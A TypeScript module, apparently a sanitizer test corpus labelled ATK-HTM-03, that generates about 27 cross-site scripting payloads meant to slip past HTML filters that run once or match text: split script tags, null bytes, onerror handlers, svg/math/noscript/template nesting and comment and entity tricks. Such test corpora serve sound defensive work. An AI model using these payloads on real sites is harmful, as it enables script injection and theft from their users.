// What a filter that runs once, or reads text instead of a tree, lets through (ATK-HTM-03).
export const nested = (run: string): string[] => [
  `<scr<script>ipt>${run}</scr</script>ipt>`, `<<script>${run}//<</script>`, `<scr\0ipt>${run}</scr\0ipt>`, `<img src=\`x\` onerror=\`${run}\`>`, `<img src=x onerror=${run} `, `<img/src=x/onerror=${run}>`, `<img\nsrc=x\nonerror\n=\n"${run}">`,
  `<svg><style><img src=x onerror=${run}></style></svg>`, `<math><mtext><table><mglyph><style><img src=x onerror=${run}></style></mglyph></table></mtext></math>`, `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`,
  `<template><img src=x onerror=${run}></template>`, `<xmp><p title="</xmp><img src=x onerror=${run}>"></xmp>`, `<textarea><img title="</textarea><img src=x onerror=${run}>"></textarea>`, `<title><a title="</title><img src=x onerror=${run}>"></title>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${run}></style></mglyph></form>`, `<svg></p><style><a id="</style><img src=x onerror=${run}>"></a></style></svg>`, `<!--><img src=x onerror=${run}>-->`, `<!--!><img src=x onerror=${run}>-->`,
  `<?xml version="1.0"?><img src=x onerror=${run}>`, `<!DOCTYPE x [<!ENTITY y "<img src=x onerror=${run}>">]>&y;`, `<select><noembed></select><img src=x onerror=${run}></noembed></select>`, `<a href="x" title="&quot;><img src=x onerror=${run}>">x</a>`,
  `<table><td background="x" title='><img src=x onerror=${run}>'>x`, `${"<div>".repeat(600)}<img src=x onerror=${run}>`, `<style>/*</style><img src=x onerror=${run}>*/</style>`, `<iframe><img src=x onerror=${run}></iframe>`, `<noframes><img src=x onerror=${run}></noframes>`,
];
